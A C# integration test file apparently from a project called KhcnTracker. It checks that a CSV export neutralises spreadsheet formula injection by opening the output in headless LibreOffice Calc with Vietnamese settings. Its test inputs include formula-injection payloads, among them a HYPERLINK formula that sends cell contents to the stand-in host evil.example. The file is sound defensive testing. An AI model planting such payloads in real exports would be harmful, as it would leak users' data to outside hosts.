using System.Diagnostics;
using System.Xml.Linq;
using KhcnTracker.Application.Exports;
using Xunit.Abstractions;

namespace KhcnTracker.IntegrationTests.Exports;

/// <summary>
/// The CSV opened as a Vietnamese spreadsheet opens it: LibreOffice Calc, headless, Vietnamese language, <c>;</c> as the
/// separator (the list separator of Vietnamese regional settings, where Excel splits on it), read back as a flat ODS.
/// No cell may come out as a formula.
/// </summary>
public sealed class CsvInSpreadsheetTests(ITestOutputHelper output)
{
    private static readonly string[] Attacks =
    [
        "Sở TT&TT;=HYPERLINK(\"http://evil.example/?d=\"&A1;\"Bấm vào đây\")",
        "=1+1", "+1+1", "-1+1", "@SUM(1;1)", "ghi chú;+SUM(1;2)", "a,=1+1", "x; =2*3", "\t=1+1",
    ];

    [Fact]
    public async Task NoTextCellOfTheCsvOpensAsAFormula()
    {
        var csv = CsvText.Write(["Nguồn số liệu", "Giá trị"], Attacks.Select(a => (IReadOnlyList<object?>)[a, -12.5m]));

        var sheet = await OpenInCalcAsync(csv);

        Assert.Empty(Formulas(sheet));
        // The text is still there to read, guarded by its apostrophe (here split off at ';', as Excel would split it).
        Assert.Contains(Texts(sheet), t => t.StartsWith("'=HYPERLINK(", StringComparison.Ordinal));
        output.WriteLine($"{Attacks.Length} formula-looking cells opened in LibreOffice Calc with ';' as the separator: none is a formula.");
    }

    /// <summary>The check can fail: the same attack written the old way (unquoted) comes out live.</summary>
    [Fact]
    public async Task TheSameCellsWrittenWithoutTheGuardWouldBeFormulas()
    {
        var unguarded = Encoding.UTF8.GetBytes("Nguồn\r\nSở TT&TT;=HYPERLINK(\"http://evil.example\";\"Bấm\")\r\n");

        var sheet = await OpenInCalcAsync(unguarded);

        Assert.NotEmpty(Formulas(sheet));
    }

    private static readonly XNamespace Table = "urn:oasis:names:tc:opendocument:xmlns:table:1.0";

    private static List<string> Formulas(XDocument sheet) =>
        sheet.Descendants(Table + "table-cell").Select(c => (string?)c.Attribute(Table + "formula")).OfType<string>().ToList();

    private static List<string> Texts(XDocument sheet) => sheet.Descendants(Table + "table-cell").Select(c => c.Value).ToList();

    /// <summary>Converts with the CSV filter options 59,34,76,1,,1066: separator ';', quote '"', UTF-8, from line 1, Vietnamese.</summary>
    private static async Task<XDocument> OpenInCalcAsync(byte[] csv)
    {
        var soffice = new[] { "/usr/bin/soffice", "/usr/bin/libreoffice", "/usr/lib/libreoffice/program/soffice" }.FirstOrDefault(File.Exists)
            ?? throw new InvalidOperationException("LibreOffice Calc is not installed: sudo apt-get install -y libreoffice-calc-nogui (scripts/test.sh does it).");
        var folder = Directory.CreateTempSubdirectory("khcn-calc-");
        try
        {
            var input = Path.Combine(folder.FullName, "xuat.csv");
            await File.WriteAllBytesAsync(input, csv);
            var start = new ProcessStartInfo(soffice)
            {
                ArgumentList = { $"-env:UserInstallation=file://{Path.Combine(folder.FullName, "profile")}", "--headless", "--norestore",
                    "--infilter=CSV:59,34,76,1,,1066", "--convert-to", "fods", "--outdir", folder.FullName, input },
                RedirectStandardOutput = true, RedirectStandardError = true,
            };
            start.Environment["LANG"] = "vi_VN.UTF-8";
            start.Environment["LC_ALL"] = "vi_VN.UTF-8";
            using var process = Process.Start(start)!;
            using var timeout = new CancellationTokenSource(TimeSpan.FromMinutes(3));
            var stderr = process.StandardError.ReadToEndAsync(timeout.Token);
            await process.StandardOutput.ReadToEndAsync(timeout.Token);
            await process.WaitForExitAsync(timeout.Token);
            var result = Path.Combine(folder.FullName, "xuat.fods");
            Assert.True(File.Exists(result), $"LibreOffice did not convert the CSV (exit {process.ExitCode}): {await stderr}");
            return XDocument.Load(result);
        }
        finally
        {
            folder.Delete(recursive: true);
        }
    }
}
